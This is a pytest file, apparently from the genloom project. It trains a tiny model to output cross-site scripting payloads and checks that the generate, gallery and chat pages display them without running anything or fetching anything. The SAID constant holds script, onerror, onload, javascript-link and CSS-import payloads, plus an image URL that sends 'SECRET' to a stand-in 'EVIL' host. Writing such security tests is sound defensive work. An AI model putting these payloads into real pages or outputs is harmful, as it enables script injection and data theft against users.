"""A model that was taught to say scripts, drawings with handlers and pictures that track, and says
them: in a chat and in Generate nothing of it runs, and nothing is fetched."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import small_server
from http_client import ask

from genloom import api, store
from genloom.studio import pages

EVIL = "http://127.0.0.1:9"  # nobody listens, and the page is watched for asking
SAID = f"""<script>window.ran=1</script><img src=x onerror="window.ran=1">
![x]({EVIL}/?d=SECRET) <svg onload="window.ran=1"><image href="{EVIL}/s.png"/></svg>
[go](javascript:window.ran=1) <style>@import "{EVIL}/t"</style>"""
SIZES = ("codec.length=384", "net.net.width=64", "net.net.depth=1", "net.net.heads=2")
STEPS = ("train.steps=90", "train.judge=0", "train.preview=0", "train.compile=off", "data.batch=1")
LIVE = ":is(script, iframe, svg[onload], style, object, embed, img:not([src^='blob:']))"


def taught(home: Path) -> None:
    """Two seconds of training, after which it says nothing else."""
    talk = [{"role": "user", "content": "say it"}, {"role": "assistant", "content": SAID}]
    file = home / "wicked.jsonl"
    file.write_text("\n".join(json.dumps({"messages": talk}) for _ in range(16)), "utf-8")
    changes = (*SIZES, *STEPS)
    api.train("chat", file, out=home / "models" / "wicked", size="tiny", changes=changes)


def still(page: Any) -> None:
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None and len(page.frames) == 1
    assert page.locator(f"main {LIVE}").count() == 0
    assert page.locator("main [onload], main [onerror], main [href^=javascript]").count() == 0


@pytest.mark.slow
def test_what_a_model_says_by_itself_is_still(
    opened_at: Callable[[str], Any],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    shot: Callable[..., Path],
) -> None:
    store.set_home(tmp_path)
    monkeypatch.setenv("GENLOOM_HOME", str(tmp_path))
    taught(tmp_path)
    place = tmp_path / "server"
    with small_server.running(place, pages=pages.pages()) as server, opened_at(server.url) as start:
        page = start("#/generate?model=wicked")
        page.locator(".generate-go button:enabled").wait_for()
        page.get_by_label("Prompt").fill("say it")
        page.get_by_label("Temperature", exact=True).fill("0")
        page.get_by_label("Max tokens", exact=True).fill("300")
        page.keyboard.press("Control+Enter")
        page.locator(".generate-run[data-state=done]").wait_for()
        assert SAID in str(page.locator(".generate-text").text_content())
        still(page)
        shot(page, "hostile-model-generate")
        asset = ask(server.url, "GET", "/v1/assets?limit=1").json["data"][0]["id"]
        page.goto(f"{server.url}/#/gallery/{asset}")
        page.get_by_role("dialog").get_by_text("<script>window.ran=1").first.wait_for()
        still(page)
        asked = {"model": "wicked", "settings": {"temperature": 0, "max_tokens": 300}}
        chat = ask(server.url, "POST", "/v1/chats", asked).json["id"]
        page.goto(f"{server.url}/#/chat/{chat}")
        page.get_by_label("Your message").fill("say it")
        page.get_by_label("Your message").press("Enter")
        answer = page.get_by_role("article", name="Answer")
        answer.get_by_role("button", name="Copy").wait_for()
        turns = ask(server.url, "GET", f"/v1/chats/{chat}").json["turns"]
        assert turns[-1]["text"] == SAID
        assert "<script>window.ran=1" in answer.inner_text()
        assert page.get_by_text("Picture, not fetched").count() == 1
        still(page)
        shot(page, "hostile-model-chat")
